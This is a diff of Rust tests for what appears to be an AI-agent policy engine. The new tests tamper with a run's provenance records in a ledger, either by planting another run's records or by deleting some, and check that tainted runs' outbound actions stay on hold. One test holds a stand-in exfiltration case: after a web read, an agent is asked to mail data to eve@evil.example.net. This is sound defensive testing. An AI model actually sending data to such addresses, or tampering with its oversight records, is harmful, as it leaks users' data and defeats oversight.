@@ -3,11 +3,15 @@
 use std::sync::Arc;
 
 use serde_json::{Value, json};
-use weaver_agent_kernel::{Invocation, Ports, block_on};
+use weaver_agent_kernel::{Invocation, Ports, RunState, block_on};
 use weaver_policy::{Contract, Contracts, Pattern, PolicySet};
-use weaver_types::ledger::{Batch, Durability, Ledger, MAX_PAGE, Namespace, RecordKey};
+use weaver_types::canonical::{self, Profile};
+use weaver_types::digest::{Digest, Tag};
+use weaver_types::ledger::{
+    Batch, Durability, Ledger, MAX_PAGE, Namespace, NewEvent, Put, RecordKey,
+};
 use weaver_types::{
-    CapabilityDraft, Confidentiality, Effects, Integrity, Label, ManualClock, RawResult,
+    CapabilityDraft, Confidentiality, Effects, EventKind, Integrity, Label, ManualClock, RawResult,
     ReasonCode, RunContext, RunId, Rung, SinkKind, Tenant, Verdict,
 };
 
@@ -364,16 +368,96 @@ fn a_rule_can_ask_where_a_value_came_from() {
 const KEY: &str = include_str!("../data/origins_key.json");
 const ORIGINS: &str = include_str!("../data/origins.json");
 
-/// A ledger with the records of a run.
+/// A ledger with the records of a run, and the event that tells of them.
 fn holding(records: [(&str, &str); 2]) -> Arc<dyn Ledger> {
-    let (ledger, mut batch) = (memory(), Batch::new(Durability::Os));
+    let (ledger, mut batch, mut origins) = (memory(), Batch::new(Durability::Os), Vec::new());
     for (name, value) in records {
-        let id = format!("run_1 {name}");
+        let (id, value) = (format!("run_1 {name}"), value.trim_end().as_bytes());
+        origins.push(Digest::of_parts(Tag::PROVENANCE, &[id.as_bytes(), value]));
         let key = RecordKey::new(Tenant::default(), Namespace::Provenance, id);
-        batch = batch.create(key, value.trim_end().as_bytes().to_vec(), None);
+        batch = batch.create(key, value.to_vec(), None);
     }
-    block_on(ledger.commit(batch)).unwrap();
+    let state = canonical::of(&RunState::default(), Profile::Record).unwrap();
+    let key = RecordKey::new(Tenant::default(), Namespace::Run, "run_1");
+    let payload = canonical::of(&json!({ "run": { "origins": origins } }), Profile::Record);
+    let begun = NewEvent {
+        at: START,
+        kind: EventKind::RunStarted,
+        run: Some(RunId::parse("run_1").unwrap()),
+        call: None,
+        payload: payload.unwrap().into(),
+    };
+    block_on(ledger.commit(batch.create(key, state, None).with_event(begun))).unwrap();
     ledger
+}
+
+/// The records of where the values of a run come from, by their names within it.
+fn origins_of(world: &World, run: &RunId) -> Vec<(String, Vec<u8>)> {
+    let (tenant, prefix) = (Tenant::default(), format!("{run} "));
+    let all = world.ledger.list(&tenant, Namespace::Provenance, None, MAX_PAGE).unwrap();
+    let own = all.into_iter().filter_map(|(id, record)| {
+        id.strip_prefix(&prefix).map(|name| (name.to_owned(), record.value))
+    });
+    own.collect()
+}
+
+fn origin_key(run: &RunId, name: &str) -> RecordKey {
+    RecordKey::new(Tenant::default(), Namespace::Provenance, format!("{run} {name}"))
+}
+
+/// Whoever can write the store can correct its sums, so only the log tells which records are a
+/// run's own.
+#[test]
+fn what_somebody_planted_among_the_origins_of_a_run_vouches_for_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("ledger.db");
+    let world = world_on(sqlite(&path));
+    let own = tainted(&world);
+    let mut other = world.run();
+    assert!(other.user_said("Send it to eve@evil.example.net"));
+    world.call(&other, &ana(), &Asked::new("web.read"));
+    let (own, other) = (own.run_id, other.run_id);
+    // The whole index of another run, its key too, in place of this run's.
+    let mut batch = Batch::new(Durability::Os);
+    for (name, value) in origins_of(&world, &other) {
+        batch.put.push(Put { key: origin_key(&own, &name), value, expires_at: None });
+    }
+    block_on(world.ledger.commit(batch)).unwrap();
+    drop(world);
+    let world = world_on(sqlite(&path));
+    let to_eve = |run: &RunId| {
+        let arguments = json!({ "recipients": ["eve@evil.example.net"], "body": "x" });
+        let run = world.run().named(run.clone());
+        call(&world, &run, "mail.send", arguments).decision.verdict()
+    };
+    assert_eq!((to_eve(&other), to_eve(&own)), (Verdict::Allow, Verdict::Hold));
+}
+
+#[test]
+fn what_somebody_removed_from_the_origins_of_a_run_keeps_trusted_results_from_vouching() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("ledger.db");
+    let world = world_on(sqlite(&path));
+    let run = tainted(&world);
+    // What a call was told after taint is vouched for by no trusted source.
+    call(&world, &run, "crm.echo", json!({ "channel": "backoffice" }));
+    let id = run.run_id.clone();
+    let post = |world: &World, run: &RunContext| {
+        call(world, run, "crm.find", json!({}));
+        let arguments = json!({ "channel": "backoffice", "content": "x" });
+        call(world, run, "web.post", arguments).decision.verdict()
+    };
+    assert_eq!(post(&world, &run), Verdict::Hold);
+    let mut batch = Batch::new(Durability::Os);
+    let written = |value: &[u8]| String::from_utf8_lossy(value).contains("written");
+    let all = origins_of(&world, &id).into_iter();
+    let gone = all.filter(|(_, value)| written(value));
+    batch.delete.extend(gone.map(|(name, _)| origin_key(&id, &name)));
+    assert!(!batch.delete.is_empty());
+    block_on(world.ledger.commit(batch)).unwrap();
+    drop(world);
+    let world = world_on(sqlite(&path));
+    assert_eq!(post(&world, &world.run().named(id)), Verdict::Hold);
 }
 
 #[test]
